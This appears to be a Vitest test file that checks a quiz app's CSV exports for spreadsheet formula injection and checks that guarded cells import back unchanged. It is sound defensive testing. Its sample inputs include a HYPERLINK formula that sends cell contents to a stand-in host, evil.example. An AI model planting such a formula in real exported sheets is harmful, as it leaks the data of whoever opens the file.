import { buffer } from 'node:stream/consumers';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { Readable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tx } from '../../../server/db/client.ts';
import { addQuestions } from '../../../server/modules/questions/questions.store.ts';
import { addNormalQuestions } from '../../../server/modules/test-series/normal-questions.store.ts';
import { guardCell, unguardCell } from '../../../server/zip/guarded-cells.ts';
import { openZip } from '../../../server/zip/safe-zip.ts';
import { limits } from '../../../src/contract/limits.ts';
import { formOf, startTestServer, type TestServer, type TestUser } from '../../support/server.ts';
import { makeBank } from '../../support/study.ts';
import { testCalls } from '../../support/test-calls.ts';

let server: TestServer;
let admin: TestUser;
let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(path.join(tmpdir(), 'nightfloat-formulas-'));
  server = await startTestServer();
  admin = await server.user({ role: 'admin' });
});
afterAll(async () => {
  await server.stop();
  await rm(folder, { recursive: true });
});
const { normal } = testCalls(() => server);

const texts = [
  '=HYPERLINK("http://evil.example?x="&A1,"Look")',
  '+1 + 1',
  '-30° to +90°',
  '@SUM(A1:A9)',
  "'=1",
  "''@x",
  "'quoted'",
  'a = b',
  '=a,"b"\n=c',
];
const rows = texts.map((text, at) => ({
  text,
  options: ['=1+1', '-2 mV', '+2 mV', `@${at}`] as const,
  correctOption: (at % 4) + 1,
  explanation: '- First\n- Second',
  image: null,
}));

const targets = {
  async bank() {
    const { categoryId } = await makeBank(server, { size: 0 });
    return {
      id: categoryId,
      fill: () => tx(server.db, (handle) => addQuestions(handle, categoryId, rows)),
      upload: '/api/bulk-upload-questions-with-images/',
      field: 'category_id',
      list: `/api/categories/${categoryId}/questions/`,
    };
  },
  async test() {
    const { testId } = (await normal({ size: 0 })).test;
    return {
      id: testId,
      fill: () => tx(server.db, (handle) => addNormalQuestions(handle, testId, rows, server.deps.now())),
      upload: '/api/testseries/questions/bulk-upload/',
      field: 'test_series_id',
      list: `/api/normal-question/list/${testId}/`,
    };
  },
};

describe('an export', () => {
  it.each(['bank', 'test'] as const)(
    'of a %s contains no formula and can be imported back unchanged',
    async (kind) => {
      const [from, to] = [await targets[kind](), await targets[kind]()];
      await from.fill();
      const { body } = await server.call('GET', `/api/bulk-exports/${kind}/${from.id}/`, { as: admin });
      const { rawPayload: zip } = await server.app.inject({ url: body.url });
      const cells = parse(await sheetOf(zip), { bom: true }).flat();
      expect(cells).toHaveLength(8 * (rows.length + 1));
      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);

      const form = formOf({ [to.field]: String(to.id), file: { bytes: zip, name: 'q.zip' } });
      expect(await server.call('POST', to.upload, { as: admin, form })).toMatchObject({ status: 201 });
      const contentAt = async (list: string) =>
        (await server.call('GET', list, { as: admin })).body.map((row: object) => ({
          ...row,
          id: 0,
          test_series: 0,
          category: 0,
        }));
      const there = await contentAt(to.list);
      expect(there).toEqual(await contentAt(from.list));
      expect(there.map(({ text }: { text: string }) => text)).toEqual(texts);
    },
  );

  async function sheetOf(zip: Buffer): Promise<string> {
    const file = path.join(folder, 'export.zip');
    await writeFile(file, zip);
    const opened = await openZip(file, limits.zip);
    const sheet = opened.files.find((one) => one.path.endsWith('.csv'))!;
    const text = (await buffer(Readable.from(opened.read(sheet)))).toString();
    opened.close();
    return text;
  }
});

it.each([...texts, '', "'", "'a", '\tx', '=', "'''-"])(
  'guarding and unguarding a cell returns the original: %j',
  (text) => {
    expect(unguardCell(guardCell(text))).toBe(text);
    expect(guardCell(text)).not.toMatch(/^[=+\-@\t\r]/);
  },
);
